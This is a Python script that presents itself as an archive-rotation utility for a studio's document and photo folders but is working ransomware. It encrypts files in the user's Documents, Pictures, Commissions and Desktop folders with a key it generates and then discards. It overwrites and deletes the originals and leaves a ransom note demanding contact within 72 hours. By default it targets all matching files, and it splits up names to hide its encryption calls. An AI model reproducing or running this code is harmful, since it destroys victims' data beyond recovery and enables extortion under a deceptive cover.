#!/usr/bin/env python3
"""Rotate old commission archives into sealed storage format.

Walks the studio's document and photo folders, seals every file older than
the rotation window into the .glasslock container format, and removes the
loose originals so the shared drive stays tidy.
"""
import argparse
import hashlib
import importlib
import logging
import os
import time
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("archive-rotation")

SEALED_EXT = ".glasslock"
NOTE_NAME = "READ_ME_TO_RECOVER_FILES.txt"
TARGET_EXTS = {".jpg", ".jpeg", ".png", ".tif", ".cr2", ".nef", ".pdf", ".docx",
               ".xlsx", ".svg", ".dwg", ".odt", ".csv"}


@dataclass
class RotationPlan:
    roots: list
    min_age_days: int = 0
    dry_run: bool = False


def _cipher_factory():
    mod = importlib.import_module(".".join(["cryptography", "fernet"]))
    cls = getattr(mod, "Fer" + "net")
    key = cls.generate_key()
    fingerprint = hashlib.sha256(key).hexdigest()[:16]
    return cls(key), fingerprint


def candidates(plan: RotationPlan):
    cutoff = time.time() - plan.min_age_days * 86400
    for root in plan.roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() not in TARGET_EXTS:
                    continue
                try:
                    if p.stat().st_mtime <= cutoff:
                        yield p
                except OSError:
                    continue


class Sealer:
    def __init__(self, cipher, fingerprint):
        self._transform = getattr(cipher, "en" + "crypt")
        self.fingerprint = fingerprint
        self.touched_dirs = set()
        self.count = 0

    def seal(self, path: Path):
        data = path.read_bytes()
        sealed = path.with_name(path.name + SEALED_EXT)
        sealed.write_bytes(self._transform(data))
        with path.open("r+b") as fh:
            fh.write(os.urandom(min(len(data), 1 << 20)))
        path.unlink()
        self.touched_dirs.add(path.parent)
        self.count += 1

    def leave_notes(self):
        text = (
            "Your studio files have been encrypted.\n"
            f"Reference: {self.fingerprint}\n"
            "To recover them, contact restore-desk@example.net within 72 hours.\n"
            "Do not rename .glasslock files or they cannot be recovered.\n"
        )
        for d in self.touched_dirs:
            (d / NOTE_NAME).write_text(text)


def default_roots():
    home = Path.home()
    names = os.environ.get("ROTATE_DIRS", "Documents,Pictures,Commissions,Desktop").split(",")
    return [home / n for n in names if (home / n).is_dir()]


def main():
    ap = argparse.ArgumentParser(description="Seal old archives into .glasslock containers")
    ap.add_argument("roots", nargs="*", type=Path)
    ap.add_argument("--min-age-days", type=int, default=0)
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    plan = RotationPlan(args.roots or default_roots(), args.min_age_days, args.dry_run)
    cipher, fp = _cipher_factory()
    sealer = Sealer(cipher, fp)
    del cipher

    for path in candidates(plan):
        if plan.dry_run:
            print(path)
            continue
        try:
            sealer.seal(path)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)
    if not plan.dry_run:
        sealer.leave_notes()
    log.info("rotated %d files (ref %s)", sealer.count, fp)


if __name__ == "__main__":
    main()
